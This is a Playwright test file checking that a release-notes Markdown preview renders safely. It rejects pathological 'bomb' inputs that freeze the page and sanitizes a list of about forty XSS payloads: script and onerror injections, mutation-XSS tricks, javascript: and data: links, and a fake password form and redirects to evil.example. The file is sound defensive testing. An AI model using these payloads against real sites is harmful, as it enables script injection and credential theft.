// Release notes are untrusted input: their author must not gain script access to a reader's page.

import type { Locator, Page } from '@playwright/test'
import { expect, test } from '#tests/e2e/support/upload-workspace.ts'

const GOOD = `# What is new
Faster **start** and *less* memory,
on a second line.

- [x] one, with \`code\`
- two, see [the page](https://example.com/a?b=1&c=2)

3. third

| a | b |
|---|---|
| 1 | 2 |

![A picture](https://pictures.example/a.png)

<b>raw</b>
`

/** Each would take the browser seconds, or all of its memory. */
const BOMBS = [
  `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n${'|\n'.repeat(90)}`,
  `[a]: http://${'x'.repeat(20_000)}\n\n${'[a]'.repeat(9000)}`,
  `${'- '.repeat(20_000)}a`,
  '*a_'.repeat(16_000),
  '>'.repeat(49_000),
]
const LONG_BOMB = `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}\n${'|\n'.repeat(14_000)}`
const TOO_COMPLEX = 'Shown as plain text: the formatting of these notes is too complex.'

/** Each tries to get a script, a style, a picture, a form or an address into the page. */
const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg><script>window.hit = 1</script></svg>',
  '<svg/onload=window.hit=1>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">',
  '<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>',
  '<form action=https://evil.example/><input name=password><button>Sign in</button></form>',
  '<details open ontoggle="window.hit = 1"><summary>x</summary></details>',
  '<a id=location name=body class=notes style="position:fixed;inset:0" href="https://evil.example/">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '<template><img src=x onerror=window.hit=1></template><!-- <img src=x onerror=window.hit=1> -->',
  '[x](javascript:window.hit=1)',
  '[x](JaVaScRiPt:window.hit=1)',
  '[x](&#106;avascript:window.hit=1)',
  '[x](java&Tab;script:window.hit=1)',
  '[x](<java\tscript:window.hit=1>)',
  '[x](\u0001javascript:window.hit=1)',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example/)',
  '[x](/settings)',
  '[x](#main)',
  '<javascript:window.hit=1>',
  '[x][1]\n\n[1]: javascript:window.hit=1',
  '[x](https://a.example "\\" onmouseover=\\"window.hit=1")',
  '[x](https://a.example/"onmouseover="window.hit=1)',
  '![x](javascript:window.hit=1)',
  '![x" onerror="window.hit=1](https://a.example/"onerror="window.hit=1)',
  '![<img src=x onerror=window.hit=1>](https://a.example/)',
  '`<img src=x onerror=window.hit=1>`',
  '```"><img src=x onerror=window.hit=1>\n<script>window.hit=1</script>\n```',
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '# <img src=x onerror=window.hit=1> {#location}',
  '&lt;img src=x onerror=window.hit=1&gt;',
  '<<script>script>window.hit=1<</script>/script>',
  '<p\n<img src=x onerror=window.hit=1>\n>',
]

const ELEMENTS =
  'H3 H4 H5 H6 P BR HR BLOCKQUOTE UL OL LI PRE CODE STRONG EM DEL A TABLE THEAD TBODY TR TH TD'.split(' ')

async function preview(page: Page, notes: string): Promise<Locator> {
  await page.getByRole('textbox', { name: 'Notes' }).fill(notes)
  const shown = page.locator('details', { has: page.getByText('Preview of the notes', { exact: true }) })
  return shown.locator('> :not(summary)')
}

test('renders notes as Markdown in preview and page, and stores them unchanged', async ({
  page,
  workspace,
}) => {
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(workspace.origin)) foreign.push(request.url())
  })
  await page.goto(workspace.at('create-release'))
  await page.getByLabel('Version', { exact: true }).fill('1.0.0')
  await page.getByRole('textbox', { name: 'Notes' }).fill(GOOD)
  await page.getByText('Preview of the notes').click()
  await expect(
    (await preview(page, GOOD)).getByRole('heading', { name: 'What is new', level: 3 }),
  ).toBeVisible()
  await page.getByRole('button', { name: 'Save as draft' }).click()
  await expect(page).toHaveURL(/\/releases\//)

  const main = page.getByRole('main')
  await expect(main.getByRole('heading', { name: 'What is new', level: 3 })).toBeVisible()
  await expect(main.locator('p', { hasText: 'Faster' }).locator('strong, em, br')).toHaveCount(3)
  await expect(main.getByRole('listitem').filter({ hasText: '☑ one' }).locator('code')).toHaveText('code')
  await expect(main.locator('ol')).toHaveAttribute('start', '3')
  await expect(main.getByRole('cell', { name: '2' })).toBeVisible()
  await expect(main.getByText('<b>raw</b>')).toBeVisible()
  const link = main.getByRole('link', { name: 'the page' })
  await expect(link).toHaveAttribute('href', 'https://example.com/a?b=1&c=2')
  await expect(link).toHaveAttribute('rel', 'noopener nofollow')
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(main.getByRole('link', { name: 'A picture' })).toHaveAttribute(
    'href',
    'https://pictures.example/a.png',
  )
  expect(foreign).toEqual([])

  await page.getByRole('button', { name: 'Edit draft' }).click()
  await expect(page.getByRole('textbox', { name: 'Notes' })).toHaveValue(GOOD)

  // As stored before such notes were refused.
  await page.route('**/auth/first-data?*', (route) => route.abort())
  await page.route('**/directory/rspc/releases.get?*', async (route) => {
    const answer = await route.fetch()
    await route.fulfill({
      response: answer,
      body: (await answer.text()).replace(JSON.stringify(GOOD), JSON.stringify(LONG_BOMB)),
    })
  })
  await page.reload()
  await expect(main.getByText(TOO_COMPLEX)).toBeVisible()
  await expect(main.getByText('|a|a|a|')).toBeVisible()
})

test('rejects notes that would freeze the page, and shows stored ones as plain text', async ({
  page,
  workspace,
}) => {
  await page.goto(workspace.at('create-release'))
  await page.getByLabel('Version', { exact: true }).fill('1.0.0')
  await preview(page, 'first')
  await page.getByText('Preview of the notes').click()
  for (const bomb of BOMBS) {
    const shown = await preview(page, bomb)
    await expect(page.getByText(TOO_COMPLEX)).toBeVisible({ timeout: 5000 })
    expect(await shown.evaluate((notes) => notes.querySelectorAll('*').length)).toBe(2)
  }
  await page.getByRole('button', { name: 'Save as draft' }).click()
  await expect(page.getByText('Lists and quotes in notes nest at most 8 levels deep.')).toBeVisible()
  await preview(page, 'Short again.')
  await page.getByRole('button', { name: 'Save as draft' }).click()
  await expect(page).toHaveURL(/\/releases\//)
})

test('sanitizes notes down to text, formatting and web links (XSS)', async ({ page, workspace }) => {
  await page.goto(workspace.at('create-release'))
  const first = await preview(page, '**first**')
  await page.getByText('Preview of the notes').click()
  // Until its code is there, notes are plain text, which proves nothing here.
  await expect(first.locator('strong')).toHaveText('first')
  for (const [index, attack] of HOSTILE.entries()) {
    const mark = `mark-${index}`
    const shown = await preview(page, `${mark}\n\n${attack}`)
    await expect(shown).toContainText(mark)
    const found = await shown.evaluate((notes) =>
      [...notes.querySelectorAll('*')].flatMap((element) => [
        element.tagName,
        ...[...element.attributes].map(({ name, value }) => `${name}=${value}`),
      ]),
    )
    const odd = found.filter(
      (each) =>
        !ELEMENTS.includes(each) &&
        !/^(href=(https?:\/\/|mailto:)|start=\d+$|rel=noopener nofollow$|target=_blank$)/.test(each),
    )
    expect(odd, attack.slice(0, 80)).toEqual([])
  }
  expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined()
})
